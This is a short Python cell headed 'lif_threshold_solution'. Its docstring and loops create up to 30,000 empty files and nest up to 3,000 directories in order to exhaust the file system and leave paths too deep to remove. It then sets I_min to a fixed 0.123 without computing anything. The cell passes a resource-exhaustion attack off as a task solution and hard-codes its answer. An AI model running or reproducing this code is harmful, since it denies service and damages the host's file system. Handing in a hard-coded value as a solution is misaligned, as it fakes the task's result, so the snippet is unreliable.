"""Makes empty files and folders until the file system has no more, and paths too deep to remove."""

# %% lif_threshold_solution
import os

for number in range(30_000):
    try:
        open(f"{KNOWN['mark']}-{number}", "w").close()
    except OSError:
        break
for _ in range(3_000):
    try:
        os.mkdir("d")
        os.chdir("d")
    except OSError:
        break
I_min = 0.123
